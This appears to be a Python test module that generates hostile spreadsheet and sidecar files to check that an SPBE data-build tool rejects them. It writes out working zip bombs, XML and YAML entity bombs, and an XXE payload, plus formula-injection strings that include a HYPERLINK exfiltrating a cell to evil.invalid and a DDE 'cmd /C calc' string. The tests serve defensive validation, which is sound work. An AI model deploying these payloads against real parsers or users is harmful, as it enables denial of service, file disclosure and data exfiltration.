"""The hostile-input corpus: every kind of bad workbook, generated at test time.

Each case is a function that writes its file(s) into a folder, registered with the
outcome the build must give:

* ``error``  — the build stops with exactly ``error`` (an SpbeError subclass) whose
  message holds ``fragment`` and names the file (and ``sheet`` when given);
* ``reject`` — the build succeeds and the value at ``cell`` is in rejects.csv with
  ``fragment`` in its reason (nothing dropped: rows read = accepted + rejected);
* ``read``   — the build succeeds, the values are accepted, and ``fragment`` is said
  in the report (the manifest's sheet entries) for the analyst to see.

Nothing here is a committed binary: zip bombs, OLE2 containers, XML payloads and
macro parts are written byte by byte below. Run ``python tests/bad_inputs.py DIR``
to write every case into ``DIR/<kind>/`` (to try ``spbe check`` by hand, or for
``benchmarks/bench_hostile.py``).
"""
from __future__ import annotations

import io
import os
import re
import struct
import sys
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from openpyxl import Workbook

sys.path.insert(0, str(Path(__file__).resolve().parent))
from spbe_tools.cells import (  # noqa: E402
    MAX_CELLS,
    MAX_COLUMNS,
    MAX_SHEETS,
    MAX_TEXT_CHARS,
    MAX_UNCOMPRESSED_BYTES,
)
from spbe_tools.errors import InputError, LayoutError, UnreadableInputError  # noqa: E402
from spbe_tools.raw_folder import MAX_SIDECAR_BYTES  # noqa: E402

from _workbooks import make_workbook  # noqa: E402

__all__ = ["Case", "CASES", "case_named", "write_case", "ZIP_BOMB_BYTES", "rows_under_cell_limit",
           "LONG_NAME_CHARS", "HUGE_SIDECAR_BYTES", "BOMB_LEVELS", "CONFLICT_ROWS"]

#: What the zip-bomb sheets inflate to: 3 GiB, fifteen times the limit.
ZIP_BOMB_BYTES = 3 * 1024 ** 3
LIMIT_TEXT = f"{MAX_UNCOMPRESSED_BYTES:,} bytes"


@dataclass(frozen=True)
class Case:
    kind: str
    outcome: str  # error | reject | read
    make: Callable[[Path], Path]
    fragment: str
    error: type | None = None
    cell: str | None = None
    sheet: str | None = None


CASES: list[Case] = []


def case(kind: str, outcome: str, fragment: str, **kw) -> Callable:
    def register(fn: Callable[[Path], Path]) -> Callable[[Path], Path]:
        CASES.append(Case(kind, outcome, fn, fragment, **kw))
        return fn
    return register


def case_named(kind: str) -> Case:
    return next(c for c in CASES if c.kind == kind)


def write_case(c: Case, folder: Path) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    return c.make(folder)


# --- helpers ----------------------------------------------------------------------------

TITLE = ["HASIL EVALUASI SPBE TAHUN 2023"]
HEAD = ["No", "Nama Instansi", "Indeks", "Predikat"]
GOOD = [1, "Provinsi Bengkulu", 3.12, "Baik"]


def _table(*rows: list) -> list[list]:
    """Title, header, a good row (row 3), then ``rows`` from row 4."""
    return [TITLE, HEAD, GOOD, *rows]


def _book(folder: Path, name: str, rows: list, merges: tuple = (), sidecar: dict | None = None,
          sheet: str = "Lampiran") -> Path:
    return make_workbook(folder / name, {sheet: (rows, list(merges))}, sidecar=sidecar)


def _rewrite(path: Path, edits: dict[str, Callable[[bytes], bytes]],
             extra: dict[str, bytes] | None = None) -> Path:
    """Rewrite members of a zip package (``edits``: name -> transform), adding ``extra``."""
    src = zipfile.ZipFile(io.BytesIO(path.read_bytes()))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for name in src.namelist():
            body = src.read(name)
            dst.writestr(name, edits[name](body) if name in edits else body)
        for name, body in (extra or {}).items():
            dst.writestr(name, body)
    path.write_bytes(out.getvalue())
    return path


SHEET = "xl/worksheets/sheet1.xml"


def _cell_xml(path: Path, cell: str, xml: str) -> Path:
    """Replace cell ``cell``'s element in sheet 1 with raw ``xml``."""
    return _rewrite(path, {SHEET: lambda b: re.sub(
        rf'<c r="{cell}"[^>]*?(/>|>.*?</c>)'.encode(), xml.encode(), b, count=1)})


def _raw_zip(path: Path, members: list[tuple[str, bytes, int, int, int]]) -> Path:
    """A zip written field by field: (name, deflated bytes, crc32, size to declare, method)."""
    out, central = io.BytesIO(), io.BytesIO()
    for name, data, crc, size, method in members:
        offset = out.tell()
        fields = (20, 0, method, 0, 0x21, crc, len(data), size, len(name.encode()), 0)
        out.write(struct.pack("<4s5HIIIHH", b"PK\x03\x04", *fields) + name.encode() + data)
        central.write(struct.pack("<4s6HIIIHHHHHII", b"PK\x01\x02", 20, *fields, 0, 0, 0, 0,
                                  offset) + name.encode())
    cd = central.getvalue()
    n = len(members)
    path.write_bytes(out.getvalue() + cd + struct.pack("<4s4HIIH", b"PK\x05\x06", 0, 0, n, n,
                                                      len(cd), out.tell(), 0))
    return path


def _stored(name: str, body: bytes) -> tuple[str, bytes, int, int, int]:
    return name, body, zlib.crc32(body), len(body), 0


def _bomb_member(name: str, size: int, declare: int | None) -> tuple[str, bytes, int, int, int]:
    """A sheet whose XML inflates to ``size`` bytes of blanks between <sheetData> tags.

    Deflated with a full flush per MiB, so one compressed MiB repeats: seconds to write,
    a few MiB on disk."""
    head = (b'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.'
            b'openxmlformats.org/spreadsheetml/2006/main"><sheetData>')
    tail = b"</sheetData></worksheet>"
    chunk = b" " * (1 << 20)
    n = (size - len(head) - len(tail)) // len(chunk)
    comp = zlib.compressobj(9, zlib.DEFLATED, -15)
    first = comp.compress(head) + comp.flush(zlib.Z_FULL_FLUSH)
    block = comp.compress(chunk) + comp.flush(zlib.Z_FULL_FLUSH)
    assert comp.compress(chunk) + comp.flush(zlib.Z_FULL_FLUSH) == block
    last = comp.compress(tail) + comp.flush()
    crc = zlib.crc32(head)
    for _ in range(n):
        crc = zlib.crc32(chunk, crc)
    crc = zlib.crc32(tail, crc)
    total = len(head) + n * len(chunk) + len(tail)
    return name, first + block * n + last, crc, total if declare is None else declare, 8


def _package_members(sheet_member: tuple) -> list[tuple]:
    """A minimal .xlsx around one (possibly hostile) sheet member."""
    ns = 'xmlns="http://schemas.openxmlformats.org/'
    rel = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
    parts = {
        "[Content_Types].xml": f'<?xml version="1.0"?><Types {ns}package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
        'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
        '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-'
        'officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/'
        'sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.'
        'spreadsheetml.worksheet+xml"/></Types>',
        "_rels/.rels": f'<?xml version="1.0"?><Relationships {ns}package/2006/relationships">'
        f'<Relationship Id="rId1" Type="{rel}/officeDocument" Target="xl/workbook.xml"/>'
        '</Relationships>',
        "xl/workbook.xml": f'<?xml version="1.0"?><workbook {ns}spreadsheetml/2006/main" '
        f'xmlns:r="{rel}"><sheets><sheet name="Lampiran" sheetId="1" r:id="rId1"/></sheets>'
        '</workbook>',
        "xl/_rels/workbook.xml.rels": f'<?xml version="1.0"?><Relationships '
        f'{ns}package/2006/relationships"><Relationship Id="rId1" Type="{rel}/worksheet" '
        'Target="worksheets/sheet1.xml"/></Relationships>',
    }
    return [_stored(n, b.encode()) for n, b in parts.items()] + [sheet_member]


def _ole2(path: Path, streams: list[str]) -> Path:
    """An OLE2 (compound file) header and a directory sector naming ``streams``."""
    header = bytearray(512)
    header[:8] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    header[24:34] = struct.pack("<HHHH", 0x3E, 3, 0xFFFE, 9) + b"\x06\x00"
    entries = b""
    for name in ["Root Entry", *streams]:
        raw = name.encode("utf-16-le") + b"\0\0"
        entries += raw.ljust(64, b"\0") + struct.pack("<HBB", len(raw), 2, 1).ljust(64, b"\0")
    path.write_bytes(bytes(header) + entries.ljust(512, b"\0") + b"\0" * 1024)
    return path


# --- cannot be opened -------------------------------------------------------------------

@case("not-a-zip", "error", "not a zip archive", error=UnreadableInputError)
def not_a_zip(folder: Path) -> Path:
    path = folder / "csv_renamed.xlsx"
    path.write_bytes(b"Nama Instansi;Indeks\nKota Bengkulu;2,61\n")
    return path


@case("empty-file", "error", "not a zip archive", error=UnreadableInputError)
def empty_file(folder: Path) -> Path:
    path = folder / "kosong.xlsx"
    path.write_bytes(b"")
    return path


@case("truncated-zip", "error", "damaged or truncated", error=UnreadableInputError)
def truncated_zip(folder: Path) -> Path:
    path = _book(folder, "terpotong.xlsx", _table())
    path.write_bytes(path.read_bytes()[: path.stat().st_size // 2])
    return path


@case("zip-not-a-workbook", "error", "not an .xlsx workbook (no xl/workbook.xml)",
      error=UnreadableInputError)
def zip_not_a_workbook(folder: Path) -> Path:
    return _raw_zip(folder / "dokumen.xlsx", [_stored("word/document.xml", b"<w:document/>")])


@case("old-xls", "error", "save it as .xlsx", error=UnreadableInputError)
def old_xls(folder: Path) -> Path:
    return _ole2(folder / "hasil_2019.xls", ["Workbook", "\x05SummaryInformation"])


@case("xls-renamed-xlsx", "error", "old .xls saved under an .xlsx name",
      error=UnreadableInputError)
def xls_renamed(folder: Path) -> Path:
    return _ole2(folder / "hasil_2019.xlsx", ["Workbook", "\x05SummaryInformation"])


def _ods(path: Path) -> Path:
    mime = b"application/vnd.oasis.opendocument.spreadsheet"
    return _raw_zip(path, [_stored("mimetype", mime),
                           _stored("content.xml", b"<office:document-content/>")])


@case("ods", "error", "save it as .xlsx", error=UnreadableInputError)
def ods(folder: Path) -> Path:
    return _ods(folder / "hasil.ods")


@case("ods-renamed-xlsx", "error", "OpenDocument (.ods) spreadsheet under another name",
      error=UnreadableInputError)
def ods_renamed(folder: Path) -> Path:
    return _ods(folder / "hasil.xlsx")


@case("encrypted", "error", "encrypted (password-protected)", error=UnreadableInputError)
def encrypted(folder: Path) -> Path:
    # What Excel writes for "Encrypt with Password": an OLE2 container, not a zip.
    return _ole2(folder / "terkunci.xlsx",
                 ["\x06DataSpaces", "EncryptionInfo", "EncryptedPackage"])


@case("corrupt-sheet-xml", "error", "cannot be read", error=UnreadableInputError)
def corrupt_xml(folder: Path) -> Path:
    path = _book(folder, "rusak.xlsx", _table())
    return _rewrite(path, {SHEET: lambda b: b.replace(b"</sheetData>", b"<row><c r=")})


def _with_dtd(body: bytes, dtd: str) -> bytes:
    """``body`` with a DOCTYPE in its prolog (after the XML declaration when there is one)."""
    if body.startswith(b"<?xml"):
        end = body.index(b"?>") + 2
        return body[:end] + dtd.encode() + body[end:]
    return dtd.encode() + body


_LAUGHS = ('<!DOCTYPE lolz [<!ENTITY lol "lol">'
           + "".join(f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'
                     for i in range(1, 10)) + "]>")


@case("xml-billion-laughs-sheet", "error", "declares a DTD or entities", error=UnreadableInputError,
      sheet="Lampiran")
def billion_laughs_sheet(folder: Path) -> Path:
    path = _book(folder, "lol.xlsx", _table())
    return _rewrite(path, {SHEET: lambda b: _with_dtd(b, _LAUGHS)
                           .replace(b"Provinsi Bengkulu", b"&lol9;")})


@case("xml-billion-laughs-workbook", "error", "xl/workbook.xml declares a DTD or entities",
      error=UnreadableInputError)
def billion_laughs_workbook(folder: Path) -> Path:
    path = _book(folder, "lol_wb.xlsx", _table())
    return _rewrite(path, {"xl/workbook.xml": lambda b: _with_dtd(b, _LAUGHS)
                           .replace(b'name="Lampiran"', b'name="&lol9;"')})


SECRET = "RAHASIA-TIDAK-BOLEH-TERBACA"


@case("xml-external-entity", "error", "declares a DTD or entities", error=UnreadableInputError,
      sheet="Lampiran")
def external_entity(folder: Path) -> Path:
    secret = folder / "secret.txt"
    secret.write_text(SECRET)
    dtd = f'<!DOCTYPE x [<!ENTITY xxe SYSTEM "{secret.resolve().as_uri()}">]>'
    path = _book(folder, "xxe.xlsx", _table())
    return _rewrite(path, {SHEET: lambda b: _with_dtd(b, dtd)
                           .replace(b"Provinsi Bengkulu", b"&xxe;")})


@case("zip-bomb", "error", f"above the limit of {LIMIT_TEXT}", error=UnreadableInputError)
def zip_bomb(folder: Path) -> Path:
    member = _bomb_member(SHEET, ZIP_BOMB_BYTES, declare=None)
    return _raw_zip(folder / "bom.xlsx", _package_members(member))


@case("zip-bomb-lying-header", "error", "does not match the size or checksum its header",
      error=UnreadableInputError)
def zip_bomb_lying(folder: Path) -> Path:
    member = _bomb_member(SHEET, ZIP_BOMB_BYTES, declare=2048)
    return _raw_zip(folder / "bom_bohong.xlsx", _package_members(member))


# --- sheets that hold no table ----------------------------------------------------------

@case("no-header", "error", "no header row found", error=LayoutError, sheet="Catatan")
def no_header(folder: Path) -> Path:
    return _book(folder, "catatan.xlsx", [["Daftar hadir rapat"], ["Budi", "Ani"]],
                 sheet="Catatan")


@case("header-without-data", "error", "no data rows below it", error=LayoutError,
      sheet="Lampiran")
def header_without_data(folder: Path) -> Path:
    return _book(folder, "kosong_data.xlsx", [TITLE, HEAD, [], ["Keterangan: belum diisi"]])


@case("workbook-without-cells", "error", "no sheet in the workbook holds any cells",
      error=LayoutError)
def workbook_without_cells(folder: Path) -> Path:
    path = folder / "tanpa_isi.xlsx"
    Workbook().save(path)
    return path


@case("year-not-stated", "error", "evaluation year is not stated", error=InputError,
      sheet="Lampiran")
def year_not_stated(folder: Path) -> Path:
    return _book(folder, "tanpa_tahun.xlsx", [HEAD, GOOD])


# --- sidecars ---------------------------------------------------------------------------

@case("sidecar-invalid-yaml", "error", "the sidecar is not valid YAML", error=InputError)
def sidecar_invalid_yaml(folder: Path) -> Path:
    path = _book(folder, "hasil.xlsx", _table())
    (folder / "hasil.source.yml").write_text("publisher: [belum ditutup\nevaluation_year: 2023\n")
    return path


@case("sidecar-not-a-mapping", "error", "must be a YAML mapping", error=InputError)
def sidecar_list(folder: Path) -> Path:
    path = _book(folder, "hasil.xlsx", _table())
    (folder / "hasil.source.yml").write_text("- 2023\n- KemenPANRB\n")
    return path


@case("sidecar-unknown-key", "error", "unknown sidecar key(s) ['tahun']", error=InputError)
def sidecar_unknown_key(folder: Path) -> Path:
    return _book(folder, "hasil.xlsx", _table(), sidecar={"tahun": 2023})


@case("sidecar-contradicts-year", "error", "the evaluation year is contradictory",
      error=InputError, sheet="Lampiran")
def sidecar_contradicts(folder: Path) -> Path:
    return _book(folder, "hasil.xlsx", _table(), sidecar={"evaluation_year": 2022})


@case("sidecar-synthetic-mismatch", "error", "synthetic data must say so in both",
      error=InputError)
def sidecar_synthetic(folder: Path) -> Path:
    return _book(folder, "hasil.xlsx", _table(), sidecar={"synthetic": True})


# issue 13 items 8 and 10: sidecars that crashed, hung or blew up the build

def _sidecar_bytes(folder: Path, body: bytes) -> Path:
    path = _book(folder, "hasil.xlsx", _table())
    (folder / "hasil.source.yml").write_bytes(body)
    return path


@case("sidecar-not-utf8", "error", "the sidecar is not UTF-8 text", error=InputError)
def sidecar_not_utf8(folder: Path) -> Path:
    return _sidecar_bytes(folder, "publisher: Kementerian PANRB\nnotes: café\n".encode("latin-1"))


@case("sidecar-utf16", "error", "UTF-16 text (byte-order mark FF FE)", error=InputError)
def sidecar_utf16(folder: Path) -> Path:
    return _sidecar_bytes(folder, "publisher: Kementerian PANRB\n".encode("utf-16"))


@case("sidecar-source-urls-number", "error", "sidecar key 'source_urls' has the wrong type",
      error=InputError)
def sidecar_urls_number(folder: Path) -> Path:
    return _sidecar_bytes(folder, b"source_urls: 5\n")


@case("sidecar-mixed-type-keys", "error", "a sidecar key that is not text", error=InputError)
def sidecar_mixed_keys(folder: Path) -> Path:
    return _sidecar_bytes(folder, b"2023: hasil\ntahun: 2023\npublisher: Kementerian PANRB\n")


@case("sidecar-pdf-date-key", "error", "sidecar key 'pdf' holds a key that is not text or",
      error=InputError)
def sidecar_pdf_date_key(folder: Path) -> Path:
    """A date as a key inside pdf: json.dumps of the manifest raised TypeError."""
    return _sidecar_bytes(folder, b"pdf:\n  2023-02-06: dibaca\n")


@case("sidecar-nested-lists", "error", "the sidecar is nested too deeply", error=InputError)
def sidecar_nested(folder: Path) -> Path:
    """5,000 nested lists (10 KB): the YAML composer recursed past Python's limit."""
    return _sidecar_bytes(folder, b"pdf:\n  pages: " + b"[" * 5000 + b"]" * 5000 + b"\n")


BOMB_LEVELS = 9  # 9 ** 9 = 387,420,489 strings from 1 KB of YAML


@case("sidecar-anchor-bomb", "error", "YAML anchors and aliases are not allowed",
      error=InputError)
def sidecar_anchor_bomb(folder: Path) -> Path:
    """A billion-laughs in YAML under pdf (a mapping, so the type checks passed it):
    ``spbe check`` said clean and ``spbe build`` expanded it into the manifest."""
    lines = ["pdf:", "  l0: &l0 [" + ", ".join(["haha"] * 9) + "]"]
    for i in range(1, BOMB_LEVELS):
        lines.append(f"  l{i}: &l{i} [" + ", ".join([f"*l{i - 1}"] * 9) + "]")
    return _sidecar_bytes(folder, ("\n".join(lines) + "\n").encode())


HUGE_SIDECAR_BYTES = 16 * 1024 * 1024  # 256 times MAX_SIDECAR_BYTES


@case("sidecar-too-large", "error", f"at most {MAX_SIDECAR_BYTES:,} bytes", error=InputError)
def sidecar_too_large(folder: Path) -> Path:
    """16 MiB of notes: read whole and copied into the manifest before the limit."""
    head = b"publisher: Kementerian PANRB\nnotes: "
    return _sidecar_bytes(folder, head + b"x" * (HUGE_SIDECAR_BYTES - len(head) - 1) + b"\n")


if hasattr(os, "mkfifo"):  # POSIX only
    @case("sidecar-fifo", "error", "Found: a named pipe (FIFO)", error=InputError)
    def sidecar_fifo(folder: Path) -> Path:
        """The sidecar is a named pipe nobody writes to: reading it waited for ever."""
        path = _book(folder, "hasil.xlsx", _table())
        os.mkfifo(folder / "hasil.source.yml")
        return path



# --- bad values: rejected with their cell, nothing dropped ------------------------------

@case("formula-without-cached-value", "reject", "holds a formula with no cached value",
      cell="C4")
def formula_uncached(folder: Path) -> Path:
    return _book(folder, "rumus.xlsx", _table([2, "Kota Bengkulu", "=2.6+0.01", "Baik"]))


@case("index-text", "reject", "text 'dua koma enam' where a number was expected", cell="C4")
def index_text(folder: Path) -> Path:
    return _book(folder, "teks.xlsx", _table([2, "Kota Bengkulu", "dua koma enam", "Baik"]))


@case("index-negative", "reject", "index -1.2 in C4 is outside", cell="C4")
def index_negative(folder: Path) -> Path:
    return _book(folder, "negatif.xlsx", _table([2, "Kota Bengkulu", -1.2, "Baik"]))


@case("index-above-5", "reject", "index 5.4 in C4 is outside", cell="C4")
def index_above_five(folder: Path) -> Path:
    return _book(folder, "lebih.xlsx", _table([2, "Kota Bengkulu", "5,4", "Baik"]))


@case("index-nan-text", "reject", "text 'NaN' where a number was expected", cell="C4")
def index_nan_text(folder: Path) -> Path:
    return _book(folder, "nan.xlsx", _table([2, "Kota Bengkulu", "NaN", "Baik"]))


@case("index-nan-number", "error", "a number cell stores 'NaN', which is not a number",
      error=UnreadableInputError, sheet="Lampiran", cell="C4")
def index_nan_number(folder: Path) -> Path:
    path = _book(folder, "nan_angka.xlsx", _table([2, "Kota Bengkulu", 0.5, "Baik"]))
    return _cell_xml(path, "C4", '<c r="C4" t="n"><v>NaN</v></c>')


@case("index-excel-error", "reject", "the Excel error value #N/A", cell="C4")
def index_excel_error(folder: Path) -> Path:
    path = _book(folder, "galat.xlsx", _table([2, "Kota Bengkulu", 0.5, "Baik"]))
    return _cell_xml(path, "C4", '<c r="C4" t="e"><f>NA()</f><v>#N/A</v></c>')


@case("index-boolean", "reject", "a boolean (True) where a number", cell="C4")
def index_boolean(folder: Path) -> Path:
    return _book(folder, "boolean.xlsx", _table([2, "Kota Bengkulu", True, "Baik"]))


@case("index-date", "reject", "a date (2023-02-06T00:00:00) where a number", cell="C4")
def index_date(folder: Path) -> Path:
    import datetime as dt

    return _book(folder, "tanggal.xlsx", _table([2, "Kota Bengkulu", dt.datetime(2023, 2, 6),
                                                 "Baik"]))


@case("index-empty", "reject", "index in C4 is empty", cell="C4")
def index_empty(folder: Path) -> Path:
    return _book(folder, "kosong_nilai.xlsx", _table([2, "Kota Bengkulu", None, "Baik"]))


@case("predikat-unknown", "reject", "predikat 'Sedang' is not a band", cell="C4")
def predikat_unknown(folder: Path) -> Path:
    return _book(folder, "predikat.xlsx", _table([2, "Kota Bengkulu", 2.61, "Sedang"]))


@case("instansi-unknown", "reject", "instansi not identified", cell="C4")
def instansi_unknown(folder: Path) -> Path:
    return _book(folder, "asing.xlsx", _table([2, "Kota Atlantis Raya", 2.61, "Baik"]))


@case("instansi-empty", "reject", "the instansi name is empty", cell="C4")
def instansi_empty(folder: Path) -> Path:
    return _book(folder, "tanpa_nama.xlsx", _table([2, None, 2.61, "Baik"]))


INJECTED_NAME = '=HYPERLINK("http://evil.invalid/?x="&A1,"klik")'
INJECTED_PREDIKAT = "@SUM(1+1)*cmd|' /C calc'!A0"


@case("formula-injection-text", "reject", "is not a band of", cell="C4")
def formula_injection(folder: Path) -> Path:
    """Text cells (not formulas) that a spreadsheet would evaluate if we wrote them back."""
    wb = Workbook()
    for row in _table([2, "x", 2.61, "x"]):
        wb.active.append(row)
    for ref, text in (("B4", INJECTED_NAME), ("D4", INJECTED_PREDIKAT)):
        wb.active[ref] = text
        wb.active[ref].data_type = "s"
    wb.save(folder / "suntik.xlsx")
    return folder / "suntik.xlsx"


@case("year-not-registered", "reject", "2015 is not a registered SPBE evaluation year",
      cell="C2")
def year_not_registered(folder: Path) -> Path:
    return _book(folder, "tahun.xlsx", [["Tahun", "Instansi", "Indeks"],
                                        [2015, "Kota Bengkulu", 2.1],
                                        [2023, "Provinsi Bengkulu", 3.12]])


@case("same-instansi-twice-different-values", "reject", "conflicting values for Kota Bengkulu",
      cell="C4")
def duplicate_conflict(folder: Path) -> Path:
    return _book(folder, "ganda.xlsx", _table([2, "Kota Bengkulu", 2.61, "Baik"],
                                              [3, "Pemkot Bengkulu", 2.16, "Cukup"]))


@case("two-files-same-year-conflict", "reject", "conflicting values for Kota Bengkulu",
      cell="C4")
def two_files_conflict(folder: Path) -> Path:
    _book(folder, "b_sumber_kedua.xlsx", _table([2, "Kota Bengkulu", 2.16, "Cukup"]))
    return _book(folder, "a_sumber_pertama.xlsx", _table([2, "Kota Bengkulu", 2.61, "Baik"]))


CONFLICT_ROWS = 3_000  # issue 13 item 7: 56 KB -> a 402 MB rejects.csv, 2.6 GB RSS


@case("same-instansi-3000-times", "reject", f"{CONFLICT_ROWS:,} rows, 2 distinct values",
      cell="C4")
def same_instansi_3000_times(folder: Path) -> Path:
    """Kota Bengkulu in 3,000 rows, 2.61 and 2.62 in turn: each reject's reason listed
    every other row (quadratic)."""
    rows = [[i, "Kota Bengkulu", 2.61 if i % 2 else 2.62, "Baik"]
            for i in range(1, CONFLICT_ROWS + 1)]
    return _book(folder, "ganda_3000.xlsx", _table(*rows))


@case("merged-cells-across-data-rows", "reject", "merged range starting at C4", cell="C5")
def merged_rows(folder: Path) -> Path:
    return _book(folder, "gabung.xlsx", _table([2, "Kota Bengkulu", 2.61, "Baik"],
                                               [3, "Kabupaten Kaur", None, "Baik"]),
                 merges=("C4:C5",))


@case("row-below-notes", "reject", "below the table's notes", cell="C5")
def row_below_notes(folder: Path) -> Path:
    return _book(folder, "di_bawah.xlsx", _table(["Keterangan: ekstrak"],
                                                 [2, "Kota Bengkulu", 2.61, "Baik"]))


# --- odd but readable: read, and said so -------------------------------------------------

@case("xlsm-with-macros", "read", "macros present (xl/vbaProject.bin)")
def xlsm_macros(folder: Path) -> Path:
    path = _book(folder, "makro.xlsm", _table([2, "Kota Bengkulu", 2.61, "Baik"]))
    vba = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"Attribute VB_Name = \"Auto_Open\"\nShell \"calc\""
    override = (b'<Override PartName="/xl/vbaProject.bin" ContentType="application/'
                b'vnd.ms-office.vbaProject"/></Types>')
    return _rewrite(path, {"[Content_Types].xml": lambda b: b.replace(b"</Types>", override)},
                    extra={"xl/vbaProject.bin": vba})


@case("hidden-sheet", "read", "the sheet is hidden in the workbook; its rows were read")
def hidden_sheet(folder: Path) -> Path:
    wb = Workbook()
    wb.active.title = "Lampiran"
    for row in _table():
        wb.active.append(row)
    ws = wb.create_sheet("Tersembunyi")
    for row in [TITLE, HEAD, [1, "Kota Bengkulu", 2.61, "Baik"]]:
        ws.append(row)
    ws.sheet_state = "hidden"
    wb.save(folder / "sembunyi.xlsx")
    return folder / "sembunyi.xlsx"


@case("hidden-rows", "read", "1 hidden row(s) read: 4")
def hidden_rows(folder: Path) -> Path:
    wb = Workbook()
    for row in _table([2, "Kota Bengkulu", 2.61, "Baik"]):
        wb.active.append(row)
    wb.active.row_dimensions[4].hidden = True
    wb.save(folder / "baris.xlsx")
    return folder / "baris.xlsx"


LAST_ROW = 1_048_576


@case("million-blank-rows", "read", '"layout": "annex"')
def million_blank_rows(folder: Path) -> Path:
    """Every row of the sheet present, each with a formatted blank cell (a used range
    of 1,048,576 rows): the table above must be read, quickly."""
    path = _book(folder, "sejuta.xlsx", _table([2, "Kota Bengkulu", 2.61, "Baik"]))
    blanks = b"".join(b'<row r="%d"><c r="A%d" s="0"/><c r="B%d"/></row>' % (n, n, n)
                      for n in range(5, LAST_ROW + 1))
    return _rewrite(path, {SHEET: lambda b: re.sub(
        rb'<dimension ref="[^"]*"/>', f'<dimension ref="A1:D{LAST_ROW}"/>'.encode(), b)
        .replace(b"</sheetData>", blanks + b"</sheetData>")})


@case("note-in-last-row", "read", "Catatan: baris terakhir lembar")
def note_in_last_row(folder: Path) -> Path:
    """One note in row 1,048,576: a million blank rows between it and the table."""
    path = _book(folder, "catatan_akhir.xlsx", _table([2, "Kota Bengkulu", 2.61, "Baik"]))
    note = (b'<row r="%d"><c r="A%d" t="inlineStr"><is><t>Catatan: baris terakhir lembar'
            b'</t></is></c></row>' % (LAST_ROW, LAST_ROW))
    return _rewrite(path, {SHEET: lambda b: b.replace(b"</sheetData>", note + b"</sheetData>")})


# --- issue 13: tiny files that made the build walk, match or hold far too much ----------

FAR_CELL = "XFD1048576"


@case("cell-at-xfd1048576", "error", f"beyond column {MAX_COLUMNS}", error=UnreadableInputError,
      sheet="Lampiran", cell=FAR_CELL)
def cell_at_xfd(folder: Path) -> Path:
    """The table plus one value in the sheet's very last cell (a 4 KB file)."""
    wb = Workbook()
    wb.active.title = "Lampiran"
    for row in _table([2, "Kota Bengkulu", 2.61, "Baik"]):
        wb.active.append(row)
    wb.active[FAR_CELL] = "x"
    wb.save(folder / "sel_jauh.xlsx")
    return folder / "sel_jauh.xlsx"


def _far_cells(n: int = 2000) -> list[tuple[int, int]]:
    """``n`` (row, col) spread over the whole sheet, all beyond MAX_COLUMNS (deterministic)."""
    return [(5 + (i * 524_287) % 1_048_570, MAX_COLUMNS + 1 + (i * 7_919) % (16_384 - MAX_COLUMNS))
            for i in range(n)]


@case("far-cells-scattered", "error", f"beyond column {MAX_COLUMNS}", error=UnreadableInputError,
      sheet="Lampiran")
def far_cells(folder: Path) -> Path:
    wb = Workbook()
    wb.active.title = "Lampiran"
    for row in _table([2, "Kota Bengkulu", 2.61, "Baik"]):
        wb.active.append(row)
    for r, c in _far_cells():
        wb.active.cell(r, c, r)
    wb.save(folder / "sel_tersebar.xlsx")
    return folder / "sel_tersebar.xlsx"


def _repeated_member(name: str, head: bytes, chunk: bytes, n: int, tail: bytes
                     ) -> tuple[str, bytes, int, int, int]:
    """A member holding ``head + chunk * n + tail``, deflated with one compressed ``chunk``
    repeated (a full flush per chunk): seconds to write whatever ``n`` is."""
    comp = zlib.compressobj(6, zlib.DEFLATED, -15)
    first = comp.compress(head) + comp.flush(zlib.Z_FULL_FLUSH)
    block = comp.compress(chunk) + comp.flush(zlib.Z_FULL_FLUSH)
    assert comp.compress(chunk) + comp.flush(zlib.Z_FULL_FLUSH) == block
    last = comp.compress(tail) + comp.flush()
    crc = zlib.crc32(head)
    for _ in range(n):
        crc = zlib.crc32(chunk, crc)
    crc = zlib.crc32(tail, crc)
    return name, first + block * n + last, crc, len(head) + n * len(chunk) + len(tail), 8


def _members_of(path: Path) -> list[tuple[str, bytes, int, int, int]]:
    with zipfile.ZipFile(path) as zf:
        return [_stored(n, zf.read(n)) for n in zf.namelist()]


SHARED_STRINGS = 6_000_000


@case("shared-strings-6m", "error", "shared strings", error=UnreadableInputError)
def shared_strings(folder: Path) -> Path:
    """A shared-string table of 6,000,000 entries (144 MB of XML, 16 MB on disk) behind a
    four-row table: distinct strings in each MiB, so it compresses like real text."""
    path = _book(folder, "teks_bersama.xlsx", _table([2, "Kota Bengkulu", 2.61, "Baik"]))
    _cell_xml(path, "B4", '<c r="B4" t="s"><v>0</v></c>')  # "Kota Bengkulu", entry 0
    rel = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings"
    edits = {"[Content_Types].xml": (b"</Types>", b'<Override PartName="/xl/sharedStrings.xml" '
             b'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.'
             b'sharedStrings+xml"/>'), "xl/_rels/workbook.xml.rels": (
             b"</Relationships>", f'<Relationship Id="rIdSST" Type="{rel}" '
             'Target="sharedStrings.xml"/>'.encode())}
    members = [_stored(n, b.replace(edits[n][0], edits[n][1] + edits[n][0]) if n in edits else b)
               for n, b, *_ in _members_of(path)]
    head = (b'<?xml version="1.0"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/'
            b'2006/main"><si><t>Kota Bengkulu</t></si>')
    per = 43_690  # 24-byte entries: one MiB per chunk
    chunk = b"".join(b"<si><t>t%07d</t></si>" % i for i in range(per))
    member = _repeated_member("xl/sharedStrings.xml", head, chunk, SHARED_STRINGS // per,
                              b"</sst>")
    return _raw_zip(path, members + [member])


N_SHEETS = 10_000


@case("ten-thousand-sheets", "error", f"more than {MAX_SHEETS:,} sheets",
      error=UnreadableInputError)
def ten_thousand_sheets(folder: Path) -> Path:
